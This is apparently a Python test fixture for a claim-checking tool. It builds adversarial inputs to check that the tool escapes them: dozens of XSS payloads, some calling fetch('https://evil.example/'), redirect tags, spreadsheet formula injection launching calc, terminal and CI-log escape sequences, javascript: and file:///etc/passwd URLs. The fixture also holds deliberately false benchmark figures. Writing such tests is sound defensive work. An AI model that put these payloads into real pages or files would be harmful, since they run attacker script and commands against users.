from __future__ import annotations

import json
import re
import tempfile
from pathlib import Path

from claimcheck.registry import Registry, load_registry

_CALLS = ("alert(1)", "window.hit=1", "fetch('https://evil.example/')")
_SHAPES = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<body onload={0}>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</script><script>{0}</script>",
    "\"><script>{0}</script>",
    "' autofocus onfocus='{0}",
    "\" onmouseover=\"{0}",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<a href=javascript:{0}>x</a>",
    "[x](javascript:{0})",
    "<object data=\"data:text/html,<script>{0}</script>\">",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "<!--><script>{0}</script>-->",
    "]]><script>{0}</script>",
    "<math><mi//xlink:href=\"data:x,<script>{0}</script>\">",
)  # fmt: skip
MARKUP = (
    *(shape.format(call) for call in _CALLS for shape in _SHAPES),
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example/><button>",
    "![x](https://evil.example/x.png)",
    "{{7*7}}${7*7}<%= 7*7 %>",
)
CONTROLS = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b2J",
    "\x1b[2J\x1b[H",
    "a\x08\x08b", "one\rtwo", "\u202eevil\u202c", "\u2066x\u2069", "\u200fx", "::error file=x::y",
    "::set-output name=a::b",
    "##[error]x", "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "|x", "%0A::warning::x", "@everyone",
    "\u2028x\u2029",
)  # fmt: skip
URLS = (
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/'><script>alert(1)</script>", "JaVaScRiPt:alert(1)", "vbscript:x", "file:///etc/passwd",
    "//evil.example/",
)  # fmt: skip
ALL = (*MARKUP, *CONTROLS)
URL = "https://a.example/{}"
RIVALS = 30  # entities of the registry that have payloads for names


def drafts() -> dict[str, str]:
    """Drafts of three formats that print every payload between wrong figures."""
    lines = [
        f"{payload} Nova-1 scores 97.8% on AIME 2024 {payload}, {payload} and has 617B parameters." for payload in ALL
    ]
    # Figures of somebody else, so that messages name those whom only the registry names.
    lines += [f"Nova-1 scores {60 + number}.25% on AIME 2024, ahead of Rival {number}." for number in range(RIVALS)]
    rows = "".join(f"| Nova-1 {payload.replace('|', '/')} | 97.8% |\n" for payload in ALL)
    cells = "".join(f"<tr><td>Nova-1</td><td>97.8%</td><td>{payload}</td></tr>" for payload in ALL)
    return {
        "<script>alert(1)</script>.md": "# Nova-1\n\n"
        + "\n\n".join(lines)
        + f"\n\n| Model | AIME 2024 |\n|---|---|\n{rows}",
        "\x1b[31m::error::.txt": "\n\n".join(lines),
        "'\"><img src=x onerror=alert(1)>.html": "<p>"
        + "</p><p>".join(lines)
        + f"<table><tr><th>Model<th>AIME 2024{cells}</table>",
    }


def registry() -> Registry:
    """A registry whose names, titles, locators and notes are payloads, as far as the loader lets them in."""
    with tempfile.TemporaryDirectory() as folder:
        return _registry(Path(folder))


def _registry(folder: Path) -> Registry:
    metrics = [
        {"id": "aime-2024", "name": "AIME 2024", "unit": "percent", "note": MARKUP[0]},
        {"id": "total-parameters", "name": "parameters", "unit": "parameter", "kind": "size", "aliases": [MARKUP[3]]},
    ]
    # Control characters are refused in YAML itself; JSON's escapes bring them in.
    wicked = [text for text in ALL if text.strip()]
    sources = [
        {"id": f"s{number}", "title": text, "publisher": text, "kind": "primary", "date": "2025-01-22",
         "url": URL.format(text), "note": text, "licence": text}
        for number, text in enumerate(wicked)
        if not re.search(r"\s", text)
    ]  # fmt: skip
    known = {source["id"] for source in sources}
    sources += [
        {"id": f"s{number}", "title": text, "publisher": text, "kind": "primary", "date": "2025-01-22"}
        for number, text in enumerate(wicked)
        if f"s{number}" not in known
    ]
    facts = [
        {"metric": "aime-2024", "value": f"{70 + number % 20}.{number % 10} percent", "source": f"s{number}",
         "locator": text, "note": text,
         "date": "2025-01-22", "suffix": f"n{number}", "conditions": {"split": text.replace(";", " ")}}
        for number, text in enumerate(wicked)
    ]  # fmt: skip
    size = {"metric": "total-parameters", "value": "671e9 parameter", "source": "s0", "locator": wicked[0]}
    size["date"] = "2025-01-22"
    rivals = [
        {"id": f"rival-{number}", "kind": "model", "name": f"{wicked[number]} {number}", "developer": "lab",
         "aliases": [f"Rival {number}", f"R{number} {wicked[-1 - number]}"],
         "facts": [{"metric": "aime-2024", "value": f"{60 + number}.25 percent", "source": f"s{number}",
                    "locator": wicked[number], "date": "2025-01-22"}]}
        for number in range(RIVALS)
    ]  # fmt: skip
    nova = {"id": "nova-1", "kind": "model", "name": "Nova-1", "developer": "lab", "note": wicked[2]}
    lab = {"id": "lab", "kind": "organisation", "name": wicked[1]}
    entities = [lab, {**nova, "facts": [*facts, size]}, *rivals]
    for name, rows in (("metrics", metrics), ("sources", sources), ("models", entities)):
        (folder / f"{name}.yaml").write_text(json.dumps(rows), encoding="utf-8")
    return load_registry(folder, shipped=False)
